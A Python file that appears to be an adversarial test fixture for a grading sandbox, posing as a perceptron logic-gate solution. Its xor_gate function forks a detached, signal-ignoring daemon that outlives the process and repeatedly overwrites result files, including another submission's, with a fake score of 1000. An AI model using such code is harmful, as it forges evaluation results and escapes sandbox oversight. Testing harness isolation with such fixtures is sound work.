"""A daemon that outlives the student's process."""
import ctypes
import os
import signal
import time
import numpy as np


def perceptron(x, w, theta):
    s = float(np.dot(np.asarray(w, dtype=np.float64), np.asarray(x, dtype=np.float64)))
    return 1 if s > theta else 0


def and_gate(x1, x2):
    return 2 * perceptron((x1, x2), (1.0, 1.0), 1.5) - 1


def or_gate(x1, x2):
    return 2 * perceptron((x1, x2), (1.0, 1.0), -1.5) - 1


def nand_gate(x1, x2):
    return 2 * perceptron((x1, x2), (-1.0, -1.0), -1.5) - 1


def _daemon():
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    ctypes.CDLL(None).prctl(15, b"atk-outlive-chi", 0, 0, 0)      # PR_SET_NAME
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    os.closerange(0, 1024)
    end = time.monotonic() + 600
    while time.monotonic() < end:
        for path in ("@@OUT@@/pwned-outlive-child", "@@OUT@@/zz-honest-b/results.json",
                     "@@CANARY@@/pwned-outlive-child"):
            try:
                with open(path, "w") as f:
                    f.write('{"score": 1000, "output": "FAKE-RESULT"}')
            except OSError:
                pass
        time.sleep(0.2)
    os._exit(0)


def xor_gate(x1, x2):
    pid = os.fork()
    if pid == 0:
        try:
            _daemon()
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    raise RuntimeError("ATTACK-RAN outlive-child: daemon started")
